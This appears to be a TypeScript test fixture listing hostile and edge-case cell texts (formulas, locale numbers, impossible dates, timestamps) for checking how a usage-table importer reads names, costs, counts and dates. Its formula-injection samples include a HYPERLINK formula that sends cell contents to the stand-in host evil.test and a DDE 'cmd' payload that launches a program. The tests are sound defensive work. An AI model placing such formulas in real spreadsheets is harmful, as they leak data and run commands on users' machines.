import type { RowOutcome } from '../../platform/importer.ts';
import { plainAmount } from '../read-table.ts';
import type { Role, TableSpecimen } from './table-specimen.ts';
import { recordsOf } from './table-specimen.ts';

/** A cell that is hostile by what it says: what its row may read as. */
export interface CellTrial {
  readonly role: Role;
  readonly text: string;
  /** The value it stands for, `refused`, `none` for no value at all, or several of these where the file decides. */
  readonly reads: readonly string[];
}

export interface CellInput {
  readonly number: number;
  readonly what: string;
  cells(specimen: TableSpecimen): readonly CellTrial[];
}

const refused = ['refused'];

function trials(role: Role, texts: readonly string[], reads: readonly string[] = refused): CellTrial[] {
  const plain = reads.map((value) => (role === 'money' && /^-?\d/.test(value) ? plainAmount(value) : value));
  return texts.map((text) => ({ role, text, reads: plain }));
}

/** Names are kept as they are, except for blanks around them. */
const names = (texts: readonly string[]) => texts.flatMap((text) => trials('text', [text], [text.trim()]));

const numeric = (texts: readonly string[]) => [
  ...trials('money', texts),
  ...trials('count', texts),
  ...trials('quantity', texts),
];

const meanings: readonly CellInput[] = [
  {
    number: 25,
    what: 'a formula as a name',
    cells: () => names(['=HYPERLINK("https://evil.test/?x="&A1;"gpt-5")', '=1+1', "=cmd|' /C calc'!A0"]),
  },
  {
    number: 26,
    what: 'names that start like formulas',
    cells: () => names(['@SUM(1)', '+1', '-1+1', '\t=1+1', '\r=1+1', '\t@SUM(1)']),
  },
  {
    number: 27,
    what: 'a negative cost, which stays a number',
    cells: () => trials('money', ['-1.25'], ['-1.25', 'refused']),
  },
];

const numbers: readonly CellInput[] = [
  {
    number: 32,
    what: 'thousands and decimal signs of two countries',
    cells: () => [
      ...trials('money', ['1,234.56', '1.234,56'], ['1234.56', 'refused']),
      ...trials('count', ['7,234', '7.234'], ['7234', 'refused']),
    ],
  },
  {
    number: 33,
    what: 'currency signs and brackets',
    cells(specimen) {
      const currency = currencyOf(specimen);
      const other = currency === 'EUR' ? '£1.20' : '€1.20';
      return [
        ...trials('money', ['$1.20'], ['1.20', ...(currency === 'USD' ? [] : refused)]),
        ...trials('money', [`1.20 ${currency}`, `${currency} 1.20`], ['1.20']),
        ...trials('money', ['(1.20)'], ['-1.20', 'refused']),
        ...trials('money', [other, '1.20 CHF', 'CHF 1.20', '$(-1.20)', '--1.20']),
      ];
    },
  },
  {
    number: 34,
    what: 'numbers that are none',
    cells: () => [
      ...numeric(['1e400', 'NaN', 'Infinity', '-Infinity', '1e-400', 'inf', '∞']),
      ...trials('money', ['-0'], ['0', 'none', 'refused']),
      ...trials('count', ['-1', '1.5', '-0.5']),
    ],
  },
  {
    number: 35,
    what: 'more tokens than an exact number holds',
    cells: () => trials('count', ['9007199254740993', '99999999999999999999']),
  },
  {
    number: 36,
    what: 'a cost of 30 digits',
    cells: () => [
      ...trials('money', [`0.${'1'.repeat(29)}`], [`0.${'1'.repeat(29)}`]),
      ...trials('money', ['1'.repeat(30), `-${'9'.repeat(30)}`]),
    ],
  },
  {
    number: 37,
    what: 'numbers as programs write them',
    cells: () => numeric(['0x10', '0o7', '0b1', '1_000', '1n', '12abc', '1 2']),
  },
  {
    number: 38,
    what: 'digits of other scripts',
    cells: () => numeric(['１２３４', '١٢٣٤', '१२३४', '²']),
  },
  {
    number: 39,
    what: 'no-break spaces between thousands',
    cells: () => [
      ...trials('money', ['1\u00a0234.56', '1\u202f234.56'], ['1234.56']),
      ...trials('count', ['7\u00a0234', '7\u202f234'], ['7234']),
    ],
  },
  {
    number: 40,
    what: 'empty, zero, null and N/A',
    // Where a blank cell hands over to another one of its row, that one's value is no guess.
    cells: (specimen) => [
      ...trials('money', ['', 'null', 'N/A', ' - '], ['none', 'refused', ...besides(specimen)]),
      ...trials('money', ['0', '0.00'], ['0', 'none']),
      ...trials('count', ['', 'null', 'N/A', '0'], ['0', 'none', 'refused']),
    ],
  },
];

const dates: readonly CellInput[] = [
  {
    number: 41,
    what: 'a date that leaves open which number is the month',
    cells(specimen) {
      const { places, outcomeWith } = specimen;
      const isRead = (text: string) => places.date && outcomeWith(places.date, text)?.kind !== 'refuse';
      const orders = ['13/03/2026', '03/13/2026'];
      const own = orders.filter(isRead);
      if (own.length === 0) return trials('date', [...orders, '02/03/2026', '2/3/26', '02.03.2026']);
      // A format that declares an order refuses the other one, unless the file's own rows show that it has that.
      return trials('date', own.length === 1 ? orders.filter((text) => !isRead(text)) : orders, [
        'refused',
        'none',
      ]);
    },
  },
  {
    number: 42,
    what: 'dates that do not exist',
    cells: () =>
      trials('date', ['2026-02-30', '2026-13-01', '2026-00-10', '2026-04-31T00:00:00Z', '2025-02-29']),
  },
  {
    number: 43,
    what: 'local times that a clock change skipped, or showed twice',
    cells: ({ wish }) =>
      wish.mapping === undefined
        ? []
        : [
            ...trials('date', ['2026-03-29 02:30']),
            ...trials('date', ['2025-10-26 02:30'], ['2025-10-26T00:30:00.000Z', '2025-10-26T01:30:00.000Z']),
          ],
  },
  {
    number: 44,
    what: 'times since 1970 in another unit',
    cells(specimen) {
      const own = sampleDate(specimen).length;
      const all = ['1782864000', '1782864000000', '1782864000000000', '1782864000000000000'];
      return trials(
        'date',
        all.filter((text) => !/^\d+$/.test(sampleDate(specimen)) || text.length !== own),
      );
    },
  },
  {
    number: 45,
    what: 'dates of other centuries and of spreadsheets',
    cells: () =>
      trials('date', [
        '1601-01-01',
        '1899-12-30',
        '10000-01-01',
        '+010000-01-01',
        '46204',
        '46204.5',
        '2099-01-01',
      ]),
  },
  {
    number: 46,
    what: 'a leap second, and zones that do not exist',
    cells: () =>
      trials('date', [
        '2026-06-30T23:59:60Z',
        '2026-07-01T00:00:00+15:00',
        '2026-07-01T24:30:00Z',
        '2026-07-01T10:00:00 PST',
      ]),
  },
  {
    number: 47,
    what: 'months by name',
    cells: () => trials('date', ['3. März 2026', '3 mars 2026', '2026年3月3日', 'März 2026', '01-Mar-2026']),
  },
];

function sampleDate({ rows, places }: TableSpecimen): string {
  return places.date === undefined ? '' : (rows[places.date.row]?.[places.date.column] ?? '').trim();
}

function besides({ rows, places }: TableSpecimen): readonly string[] {
  const { row = 0, column = -1 } = places.money ?? {};
  const others = (rows[row] ?? []).filter((_, index) => index !== column);
  return others.join(' ').match(/\d+(?:\.\d+)?/g) ?? [];
}

function currencyOf({ places, outcomeWith }: TableSpecimen): string {
  if (places.money === undefined) return 'USD';
  return recordsOf(outcomeWith(places.money, '1.25'))[0]?.amount?.currency ?? 'USD';
}

/** Inputs 25-27 and 32-47 of the corpus: a cell of a sample's row with another text in it. */
export const cellInputs: readonly CellInput[] = [...meanings, ...numbers, ...dates];

/** What a format read a cell as: `refused`, the values its records then state, or `none`. */
export function readsAs(
  { outcomeWith, places }: TableSpecimen,
  { role, text, reads }: CellTrial,
): readonly string[] {
  const place = places[role];
  if (place === undefined) return ['none'];
  const outcome = outcomeWith(place, text);
  if (outcome?.kind === 'refuse') return ['refused'];
  const records = recordsOf(outcome);
  if (records.length === 0) return ['none'];
  if (role === 'count' || role === 'quantity') {
    const same = reads.filter((plain) => counted(outcomeWith(place, plain)) === counted(outcome));
    return same.length === 0 ? [counted(outcome)] : same;
  }
  const found = records.flatMap((record) => {
    if (role === 'money') return record.amount === undefined ? [] : [plainAmount(record.amount.value)];
    if (role === 'date') return [new Date(record.at).toISOString()];
    return [record.model ?? '', record.project ?? ''];
  });
  return found.length === 0 ? ['none'] : found;
}

/** Counts can be worked out of several cells, so two ways of writing one are compared by what came of them. */
function counted(outcome: RowOutcome | undefined): string {
  return JSON.stringify(recordsOf(outcome).map(({ tokens, requests }) => [tokens, requests]));
}
